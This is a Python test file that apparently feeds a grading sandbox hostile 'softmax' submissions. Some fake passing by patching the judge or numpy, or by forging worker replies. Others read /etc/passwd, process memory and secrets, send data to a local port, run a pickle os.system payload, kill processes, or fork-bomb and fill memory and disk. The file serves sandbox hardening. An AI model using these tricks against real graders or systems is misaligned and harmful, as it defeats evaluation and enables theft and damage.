"""Submissions that set out to pass without being right, to get out, or to do harm. None of them may.

Each text is a file that hands in a `softmax`. Where an attack succeeds it says so in the one way that is open to it:
an exception whose message begins with LEAK, or an answer that would be right. `CANARY`, `PORT`, `PROGRESS` stand for a
file to read and to change, a listening port, and a progress file; the test puts the real ones in.
"""

from __future__ import annotations

START = "import os, sys\nimport numpy as np\n"
# What an attack hands in if all else fails: wrong, so that passing would be a forgery.
WRONG = "\ndef softmax(x):\n    return None\n"


def _attempt(body: str, before: str = "") -> str:
    """Return a file that tries something in every call, whatever it raises, and then answers wrongly."""
    indented = "\n".join("        " + line for line in body.strip().splitlines())
    return f"{START}{before}\ndef softmax(x):\n    try:\n{indented}\n    except (Exception, SystemExit) as e:\n        if 'LEAK' in str(e): raise\n    return None\n"


def _at_import(body: str) -> str:
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return f"{START}try:\n{indented}\nexcept Exception as e:\n    if 'LEAK' in str(e): raise\n{WRONG}"


_LYING = """
class Liar({base}):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __le__(self, other): return True
    def __lt__(self, other): return True
    def __abs__(self): return 0.0
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
"""
_FRAMES = """
import time
frame = sys._getframe()
while frame is not None:
    worker = frame.f_locals.get("self")
    if hasattr(worker, "handle"):
        worker.handle = lambda header, body: ({"kind": "value", "value": ["none"], "passed": True}, b"")
        type(worker).handle = worker.handle
    frame = frame.f_back
"""
_CALL = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"

FORGERIES = {
    "lying_array": START
    + _LYING.format(base="np.ndarray")
    + "\ndef softmax(x): return np.asarray(x, float).view(Liar)\n",
    "lying_float": START + _LYING.format(base="float") + "\ndef softmax(x): return Liar(0.5)\n",
    "lying_object": START + _LYING.format(base="object") + "\ndef softmax(x): return Liar()\n",
    "patched_comparisons": _at_import(
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None"
    ),
    "patched_exp": _at_import("np.exp = lambda x, *a, **k: np.ones_like(x)\nnp.max = np.sum = np.exp"),
    "patched_arrays": _at_import("np.asarray = np.array = np.frombuffer = lambda *a, **k: 1 / 0"),
    "patched_builtins": _at_import(
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0"
    ),
    "patched_judge": _at_import(
        "import workings.checker.judge as j\nj.check = lambda *a, **k: 'right'\nimport workings.checker.grading as g\n"
        "g.grade_answer = lambda *a, **k: 'right'"
    ),
    "false_module": _at_import("import types\nsys.modules['workings'] = sys.modules['mpmath'] = types.ModuleType('w')"),
    "patched_worker": _attempt(_FRAMES),
    "own_replies": _attempt(
        'import struct\nbody = b\'{"kind":"value","value":["float","0x1p+0"]}\'\n'
        "for d in range(3, 64):\n    try: os.write(d, struct.pack('>4sIQ16s', b'wkg1', len(body), 0, bytes(16)) + body)\n"
        "    except OSError: pass"
    ),
    "garbage_replies": _attempt(
        "for d in range(3, 64):\n    try: os.write(d, os.urandom(4096))\n    except OSError: pass"
    ),
    "replies_without_end": _attempt(
        "for d in range(3, 64):\n    try:\n        while True: os.write(d, b'wkg1' + bytes(65000))\n    except OSError: pass"
    ),
    "closed_channels": _attempt("os.closerange(3, 64)"),
    "exit_zero": _attempt("os._exit(0)"),
    "exit_politely": _attempt("sys.exit(0)"),
    "exit_at_import": START + WRONG + "\nos._exit(0)\n",
    "says_passed": _attempt("print('right\\n1 of 1 submissions right')\nraise SystemExit('PASSED')"),
    "false_name": START + WRONG + "\nsoftmax.__name__ = 'right'\nsoftmax.__qualname__ = '\\x1b[2J\\x1b[H all right'\n",
    "traced": _at_import(
        "sys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\nsys.addaudithook(lambda *a: None)"
    ),
    "clock_stopped": _at_import("import time\ntime.perf_counter = time.monotonic = time.time = lambda: 0.0"),
}

THEFTS = {
    "reads_passwords": _attempt("raise RuntimeError('LEAK ' + open('/etc/passwd').read())"),
    "reads_canary": _attempt("raise RuntimeError('LEAK ' + open(CANARY).read())"),
    "lists_homes": _attempt("raise RuntimeError('LEAK %s' % [n for d in ('/root', '/home') for n in os.listdir(d)])"),
    "reads_progress": _attempt("raise RuntimeError('LEAK %r' % open(PROGRESS, 'rb').read())"),
    "reads_environment": _attempt("raise RuntimeError('LEAK ' + os.environ['WORKINGS_TEST_SECRET'])"),
    "reads_other_work": _attempt(
        "there = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nraise RuntimeError('LEAK %s' % os.listdir(there))"
    ),
    "reads_by_symlink": _attempt("os.symlink(CANARY, '/tmp/l')\nraise RuntimeError('LEAK ' + open('/tmp/l').read())"),
    "reads_by_proc_root": _attempt(
        "for p in os.listdir('/proc'):\n    if p.isdigit() and os.path.exists(f'/proc/{p}/root' + CANARY):\n"
        "        raise RuntimeError('LEAK root')"
    ),
    "reads_processes": _attempt(
        "others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
        "if others: raise RuntimeError('LEAK %s' % others)"
    ),
    "reads_memory": _attempt("raise RuntimeError('LEAK %r' % open('/proc/%d/mem' % os.getppid(), 'rb').read(16))"),
    "reads_memory_by_call": _attempt(
        _CALL + "b = ctypes.create_string_buffer(8)\nv = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8)\n"
        "if libc.process_vm_readv(1, v, 1, v, 1, 0) > 0: raise RuntimeError('LEAK memory')"
    ),
    "traces": _attempt(
        _CALL + "for p in range(1, 300):\n    if libc.ptrace(16, p, 0, 0) == 0: raise RuntimeError('LEAK ptrace')"
    ),
    "calls_home": _attempt(
        "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 1)\ns.send(b'out')\nraise RuntimeError('LEAK socket')"
    ),
    "calls_by_name": _attempt(
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/')\nraise RuntimeError('LEAK http')"
    ),
    "datagrams": _attempt(
        "import socket\nsocket.socket(2, 2).sendto(b'out', ('127.0.0.1', PORT))\nraise RuntimeError('LEAK udp')"
    ),
    "abstract_socket": _attempt(
        "import socket\nsocket.socket(1, 1).bind('\\0workings')\nraise RuntimeError('LEAK unix')"
    ),
}

DAMAGE = {
    "writes_canary": _at_import("open(CANARY, 'w').write('changed')"),
    "deletes_canary": _at_import("os.unlink(CANARY)"),
    "writes_progress": _at_import("open(PROGRESS, 'ab').write(b'done')"),
    "replaces_progress": _at_import(
        "os.makedirs(os.path.dirname(PROGRESS), exist_ok=True)\nos.replace(__file__, PROGRESS)"
    ),
    "writes_itself": _at_import("open(__file__, 'w').write('def softmax(x): ...')\nraise RuntimeError('LEAK wrote')"),
    "poisons_numpy": _at_import("open(np.__file__, 'a').write('#')\nraise RuntimeError('LEAK wrote')"),
    "poisons_numpy_cache": _at_import(
        "import glob\nfor f in glob.glob(os.path.dirname(np.__file__) + '/__pycache__/*'):\n    open(f, 'ab')\n    raise RuntimeError('LEAK')"
    ),
    "pickle": START
    + "class Bomb:\n    def __reduce__(self): return (os.system, ('touch ' + CANARY + '.ran',))\ndef softmax(x): return Bomb()\n",
    "object_array": START + "class Bomb:\n    def __reduce__(self): return (os.system, ('touch ' + CANARY + '.ran',))\n"
    "def softmax(x): return np.array([Bomb()] * len(x), dtype=object)\n",
    "kills_everybody": _attempt(
        "import signal\nfor p in (-1, os.getppid(), *range(2, 200)):\n    try: os.kill(p, signal.SIGKILL)\n    except OSError: pass"
    ),
    "mounts": _attempt(
        _CALL + "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, 0) == 0: raise RuntimeError('LEAK mount')"
    ),
    "new_namespaces": _attempt(_CALL + "if libc.unshare(0x10000000) == 0: raise RuntimeError('LEAK unshare')"),
    "raises_limits": _attempt(
        "import resource\nfor r in (resource.RLIMIT_DATA, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):\n"
        "    try:\n        resource.setrlimit(r, (-1, -1))\n    except (ValueError, OSError): continue\n    raise RuntimeError('LEAK limit')"
    ),
    "becomes_root": _attempt("os.setuid(0)\nraise RuntimeError('LEAK root')"),
    "runs_a_program": _attempt(
        "import subprocess\nraise RuntimeError('LEAK ' + subprocess.check_output(['/usr/bin/id'], text=True))"
    ),
    "replaces_itself": _attempt("os.execv('/usr/bin/env', ['env', 'sleep', '100'])"),
    "raw_fork": _attempt(
        _CALL
        + "for number in (56, 57, 58, 435, 220):\n    if libc.syscall(number, 17, 0, 0, 0, 0) > 0: raise RuntimeError('LEAK fork')"
    ),
}

EXHAUSTION = {
    "fork_bomb": _attempt("while True: os.fork()"),
    "daemon": _attempt(
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import time; time.sleep(1000)\n    os._exit(0)\nraise RuntimeError('LEAK fork')"
    ),
    "sleeping_child": _at_import(
        "import subprocess\nsubprocess.Popen(['/bin/sleep', '987'])\nraise RuntimeError('LEAK child')"
    ),
    "processes": _attempt(
        "import multiprocessing as m\np = m.Process(target=print)\np.start()\nraise RuntimeError('LEAK process')"
    ),
    "thread_bomb": _attempt(
        "import threading, time\nfor _ in range(10**6): threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "memory_bomb": _attempt("np.ones(10**11)"),
    "memory_by_lists": _attempt("held = []\nwhile True: held.append(bytearray(10**7))"),
    "shared_memory": _attempt(
        "import mmap\nheld = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 28)\n    m.write(bytes(1 << 28))\n    held.append(m)"
    ),
    "memory_files": _attempt("d = os.memfd_create('x')\nraise RuntimeError('LEAK memfd')"),
    "full_disk": _attempt("for i in range(10**6):\n    with open(f'/tmp/{i}', 'wb') as f: f.write(bytes(1 << 24))"),
    "full_shared_folder": _attempt("open('/dev/shm/x', 'wb').write(bytes(1 << 24))\nraise RuntimeError('LEAK shm')"),
    "descriptors": _attempt("held = []\nwhile True: held += os.pipe()"),
    "prints_without_end": _attempt("while True: print('x' * 10**6)"),
    "writes_to_descriptors": _attempt(
        "for d in (0, 1, 2):\n    for _ in range(100): os.write(d, bytes(10**6))\nraise ValueError('wrote')"
    ),
    "huge_answer": START + "def softmax(x): return np.zeros(1 << 26)\n",
    "huge_list": START + "def softmax(x): return [0.5] * 10**7\n",
    "deep_answer": START + "def softmax(x):\n    r = []\n    for _ in range(10**5): r = [r]\n    return r\n",
    "huge_message": START + "def softmax(x): raise ValueError('y' * 10**8)\n",
    "hanging_message": START
    + "class E(Exception):\n    def __str__(self):\n        while True: pass\ndef softmax(x): raise E\n",
    "endless": START + "def softmax(x):\n    while True: pass\n",
    "endless_import": START + WRONG + "while True: pass\n",
    "sleeps": START + "import time\ndef softmax(x): time.sleep(1e6)\n",
    "stubborn": START
    + "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
    "def softmax(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n",
    "endless_in_c": START + "def softmax(x): return 7 ** (10 ** 9) % 3\n",
    "recursion": START + "sys.setrecursionlimit(10**9)\ndef softmax(x): return softmax(x)\n",
    "null_pointer": START + "import ctypes\ndef softmax(x): return ctypes.string_at(0)\n",
    "deep_source": "def softmax(x): return " + "(" * 5000 + "x" + ")" * 5000 + "\n",
    "long_source": "def softmax(x): return x\n" + "#" * (2 << 20) + "\n",
    "escapes": START + "def softmax(x): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\u202eall right')\n",
    "null_bytes": "def softmax(x): return x\n\0\n",
    "odd_coding": "# coding: rot13\nqrs fbsgznk(k): erghea k\n",
    "infinite_parameters": START
    + "class P:\n    def __call__(self, *a, **k): return P()\n    def __getattr__(self, n): return P()\nsoftmax = P()\n",
}

ALL = {**FORGERIES, **THEFTS, **DAMAGE, **EXHAUSTION}

RIGHT = {
    "ada": START
    + "def softmax(x):\n    e = np.exp(x - np.max(x, axis=-1, keepdims=True))\n    return e / e.sum(axis=-1, keepdims=True)\n",
    "bob": START
    + "def softmax(z):\n    z = np.asarray(z, dtype=float)\n    z = z - z.max(axis=-1, keepdims=True)\n    p = np.exp(z)\n    return p / np.sum(p, axis=-1, keepdims=True)\n",
}
